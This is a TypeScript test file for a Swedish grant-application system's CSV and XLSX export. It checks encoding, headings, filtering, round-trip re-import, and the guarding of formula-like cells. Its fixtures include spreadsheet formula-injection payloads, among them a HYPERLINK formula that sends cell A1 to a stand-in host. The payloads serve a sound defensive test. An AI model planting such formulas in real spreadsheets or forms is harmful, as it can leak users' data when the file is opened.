import { readFileSync } from "node:fs";
import Papa from "papaparse";
import { readSheet } from "read-excel-file/node";
import writeXlsxFile from "write-excel-file/node";
import { beforeEach, describe, expect, it } from "vitest";
import type { Db } from "@/db/client";
import { seedReferenceData } from "@/db/seed/reference";
import { freshTestDb } from "@/db/testing";
import { inWriteTransaction } from "@/db/transaction";
import { registerApplication } from "@/lib/applications/register";
import { listParamsSchema } from "@/lib/applications/list-params";
import { createTestProgramme, createTestRound, TEST_ACTOR } from "@/lib/decisions/test-helpers";
import { importApplications } from "@/lib/import/apply";
import { parseSpreadsheet } from "@/lib/import/parse";
import { EXPORT_COLUMNS, EXPORT_HEADINGS, exportRoundApplications } from "./applications";
import { exportHref } from "./href";

const EVIL_ORGANISATION = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka här")';

/** An officer's scope: every application. */
const ALL = { kind: "all" } as const;
let db: Db;
let programmeId: number;
let roundId: number;

/** Column name -> index in the export. */
const col = Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, i])) as Record<(typeof EXPORT_COLUMNS)[number], number>;

function csvRows(body: Uint8Array): string[][] {
  // TextDecoder drops the BOM, as Excel does.
  return Papa.parse<string[]>(new TextDecoder().decode(body), { delimiter: ";", skipEmptyLines: true }).data;
}

beforeEach(async () => {
  db = freshTestDb().db;
  seedReferenceData(db);
  programmeId = createTestProgramme(db);
  roundId = createTestRound(db, { programmeId, budget: 5_000_000, status: "closed", ordinal: 5, year: 2026 });
  const file = await parseSpreadsheet(
    new Uint8Array(readFileSync(new URL("../import/fixtures/applications-utf8-bom.csv", import.meta.url))),
    "a.csv",
  );
  if (!file.ok) throw new Error(file.error);
  const report = importApplications(db, roundId, file.rows, { allOrNothing: true, actor: TEST_ACTOR });
  expect(report.imported).toBe(5);
  inWriteTransaction(db, (tx) =>
    registerApplication(
      tx,
      roundId,
      {
        leadOrganisation: { name: EVIL_ORGANISATION, kind: "annan" },
        coApplicants: [{ name: "Umeå kommun" }, { name: "Borås Stad" }],
        projectTitle: "@SUM(1+1)",
        description: "\u200b=1+1",
        focusAreas: ["-1+2", "Trygghet"],
        requestedAmount: 300_000,
        contactName: "＝HYPERLINK(\"http://example.invalid\")",
        contactTitle: "\u2060+cmd",
        contactPhone: "+46 90 12 34 56",
        contactEmail: "",
      },
      TEST_ACTOR,
      { allowClosedRound: true },
    ),
  );
});

describe("exportRoundApplications: CSV", () => {
  it("writes UTF-8 with BOM, ';' and CRLF, the import's columns under Swedish headings, one row per application", async () => {
    const file = await exportRoundApplications(db, roundId, "csv", ALL);
    expect(file.fileName).toBe("ansokningar-HJ-2026-omgang-5.csv");
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    expect([...file.body.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(file.body);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.split("\r\n")[0]).toBe(EXPORT_HEADINGS.join(";"));
    expect(EXPORT_HEADINGS).toEqual([
      "Diarienummer", "Organisation", "Organisationstyp", "Kommunkod", "Länskod", "Län", "Medsökande", "Projekttitel",
      "Beskrivning", "Fokusområden", "Sökt belopp (kr)", "Status", "Beslut", "Beviljat belopp (kr)", "Beslutsdatum",
      "Motivering", "Kontaktperson", "Kontaktpersonens titel", "Telefon", "E-post",
    ]);

    const parsed = csvRows(file.body);
    expect(parsed.map((r) => r[0])).toEqual(["Diarienummer", "HJ-2026-0001", "HJ-2026-0002", "HJ-2026-0003", "HJ-2026-0004", "HJ-2026-0005", "HJ-2026-0006"]);
    expect(parsed[1]).toEqual([
      "HJ-2026-0001", "Umeå kommun", "Kommun", "2480", "24", "Västerbottens län", "", "Jämställd förskola i Umeå",
      "Pedagoger utbildas; föräldrar bjuds in.\nTvå år.", "Förskola; Ledarskap", "1200000", "Beviljad", "Beviljad", "1000000",
      "2026-05-20", "", "Anna Berg", "Projektledare", "090-16 10 00", "anna.berg@umea.se",
    ]);
    expect(parsed[2]?.slice(col.status, col.motivation + 1)).toEqual(["Avslagen", "Avslagen", "0", "2026-05-20", ""]);
    // No decision yet: decision, granted amount and date are empty; co-applicants in their order.
    expect(parsed[3]?.slice(1, 15)).toEqual([
      "Regionförbundet i Kalmar län", "Regionförbund", "", "08", "Kalmar län", "Kalmars kommun", "Jämställd regional tillväxt", "",
      "Tillväxt", "2000000", "Inkommen", "", "", "",
    ]);
  });

  it("prefixes every text cell Excel could run as a formula, zero-width and fullwidth starts included", async () => {
    const evil = csvRows((await exportRoundApplications(db, roundId, "csv", ALL)).body).find((r) => r[0] === "HJ-2026-0006");
    expect(evil?.[col.organisation]).toBe(`'${EVIL_ORGANISATION}`);
    expect(evil?.[col.co_applicants]).toBe("Umeå kommun; Borås Stad");
    expect(evil?.[col.project_title]).toBe("'@SUM(1+1)");
    expect(evil?.[col.description]).toBe("'\u200b=1+1");
    expect(evil?.[col.focus_areas]).toBe("'-1+2; Trygghet");
    expect(evil?.[col.contact_name]).toBe("'＝HYPERLINK(\"http://example.invalid\")");
    expect(evil?.[col.contact_title]).toBe("'\u2060+cmd");
    // In a CSV the phone number must be guarded too (Excel would compute "+46 90 …"); the import takes the apostrophe off.
    expect(evil?.[col.contact_phone]).toBe("'+46 90 12 34 56");
    expect(evil?.[col.requested_amount]).toBe("300000");
  });

  it("follows the list on screen: search, status, county, kind and order, every page", async () => {
    const rowsFor = async (query: Record<string, string>) =>
      csvRows((await exportRoundApplications(db, roundId, "csv", ALL, listParamsSchema.parse(query))).body)
        .slice(1)
        .map((r) => r[0]);
    expect(await rowsFor({ status: "approved" })).toEqual(["HJ-2026-0001", "HJ-2026-0005"]);
    expect(await rowsFor({ lan: "14" })).toEqual(["HJ-2026-0002", "HJ-2026-0005"]);
    expect(await rowsFor({ typ: "kommun" })).toEqual(["HJ-2026-0001", "HJ-2026-0002", "HJ-2026-0004"]);
    expect(await rowsFor({ sok: "Trygga" })).toEqual(["HJ-2026-0002"]);
    expect(await rowsFor({ sortera: "belopp", ordning: "desc", sida: "2" })).toEqual([
      "HJ-2026-0003", "HJ-2026-0004", "HJ-2026-0001", "HJ-2026-0002", "HJ-2026-0005", "HJ-2026-0006",
    ]);
    expect(exportHref(roundId, listParamsSchema.parse({ status: "approved", lan: "24", sida: "3" }), "xlsx")).toBe(
      `/omgangar/${roundId}/export?status=approved&lan=24&format=xlsx`,
    );
    expect(exportHref(roundId, listParamsSchema.parse({}), "csv")).toBe(`/omgangar/${roundId}/export?format=csv`);
  });
});

describe("exportRoundApplications: XLSX", () => {
  it("reads back as the CSV's values: numbers as numbers, codes with their zero, text guarded but a phone's + plain", async () => {
    const file = await exportRoundApplications(db, roundId, "xlsx", ALL);
    expect(file.fileName).toBe("ansokningar-HJ-2026-omgang-5.xlsx");
    expect(file.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");

    const sheet = await readSheet(Buffer.from(file.body));
    expect(sheet[0]).toEqual([...EXPORT_HEADINGS]);
    expect(sheet).toHaveLength(7);
    expect(sheet[1]?.[col.requested_amount]).toBe(1_200_000);
    expect(sheet[2]?.[col.granted_amount]).toBe(0);
    expect(sheet[3]?.[col.county_code]).toBe("08");
    expect(sheet[6]?.[col.organisation]).toBe(`'${EVIL_ORGANISATION}`);
    // A Text-format cell ("@") is never run as a formula, even when edited: the phone number keeps its plain +46.
    expect(sheet[6]?.[col.contact_phone]).toBe("+46 90 12 34 56");

    const csv = csvRows((await exportRoundApplications(db, roundId, "csv", ALL)).body);
    const asText = sheet.map((row) => row.map((cell) => (cell === null ? "" : String(cell))));
    expect(asText.map((row, i) => (i === 6 ? row.filter((_, c) => c !== col.contact_phone) : row))).toEqual(
      csv.map((row, i) => (i === 6 ? row.filter((_, c) => c !== col.contact_phone) : row)),
    );
  });

  it("refuses a round that does not exist", async () => {
    await expect(exportRoundApplications(db, 999, "csv", ALL)).rejects.toThrow("Omgången finns inte.");
  });
});

describe("export, edit in Excel, import into another round: the round comes back whole", () => {
  /** Every exported column but the registration number and the status line, which the new round gives itself. */
  const comparable = (rows: readonly (readonly unknown[])[]) =>
    rows.slice(1).map((row) => row.map((cell) => (cell === null ? "" : String(cell))).filter((_, c) => c !== col.registration_number));

  function withMotivations() {
    // The fixture's decisions carry no motivation; a real round's do.
    db.$client.prepare("UPDATE decisions SET motivation = ? WHERE application_id = ?").run("Väl förankrat; tydliga mål.\nTvå år.", 1);
  }

  it("as CSV, saved by Swedish Excel as Windows-1252 with the codes' leading zeros dropped and one amount changed", async () => {
    withMotivations();
    const exported = csvRows((await exportRoundApplications(db, roundId, "csv", ALL)).body);
    // What Excel does to the file: numbers lose leading zeros, the text stays as it was, the officer edits a cell.
    const edited = exported.map((row, i) =>
      i === 0 ? row : row.map((cell, c) => (c === col.municipality_code || c === col.county_code ? cell.replace(/^0+(?=\d)/, "") : cell)),
    );
    edited[4]![col.requested_amount] = "1 250 000";
    const cp1252 = edited.filter((row) => row[0] !== "HJ-2026-0006"); // Windows-1252 cannot hold the zero-width and fullwidth signs
    const bytes = Buffer.from(Papa.unparse(cp1252, { delimiter: ";", newline: "\r\n" }), "latin1");

    const target = createTestRound(db, { programmeId, budget: 5_000_000, status: "decided", ordinal: 6, year: 2027 });
    const file = await parseSpreadsheet(new Uint8Array(bytes), "omgang-5.csv");
    if (!file.ok) throw new Error(file.error);
    const report = importApplications(db, target, file.rows, { allOrNothing: true, actor: TEST_ACTOR });
    expect(report.refused === 0 ? [] : report.rows.filter((r) => r.errors.length > 0)).toEqual([]);
    expect(report.imported).toBe(5);

    const again = csvRows((await exportRoundApplications(db, target, "csv", ALL)).body);
    const expected = exported.filter((row) => row[0] !== "HJ-2026-0006");
    expected[4]![col.requested_amount] = "1250000";
    expect(comparable(again)).toEqual(comparable(expected));
    expect(again.slice(1).map((r) => r[0])).toEqual(["HJ-2027-0001", "HJ-2027-0002", "HJ-2027-0003", "HJ-2027-0004", "HJ-2027-0005"]);
  });

  it("as XLSX, opened and saved again, guarded text and a phone number's + included", async () => {
    withMotivations();
    const exported = await readSheet(Buffer.from((await exportRoundApplications(db, roundId, "xlsx", ALL)).body));
    // Saved again as a workbook: the values as read, the heading row included.
    const resaved = await writeXlsxFile(exported.map((row) => row.map((value) => (typeof value === "number" ? { value, type: Number } : value === null ? null : { value: String(value), type: String })))).toBuffer();

    const target = createTestRound(db, { programmeId, budget: 5_000_000, status: "closed", ordinal: 6, year: 2027 });
    const file = await parseSpreadsheet(new Uint8Array(resaved), "omgang-5.xlsx");
    if (!file.ok) throw new Error(file.error);
    const report = importApplications(db, target, file.rows, { allOrNothing: true, actor: TEST_ACTOR });
    expect(report.rows.filter((r) => r.errors.length > 0)).toEqual([]);
    expect(report.imported).toBe(6);

    const again = await readSheet(Buffer.from((await exportRoundApplications(db, target, "xlsx", ALL)).body));
    expect(comparable(again)).toEqual(comparable(exported));
    const evil = again.find((row) => row[col.project_title] === "'@SUM(1+1)");
    expect(evil?.[col.contact_phone]).toBe("+46 90 12 34 56");
    expect(evil?.[col.co_applicants]).toBe("Umeå kommun; Borås Stad");
  });
});
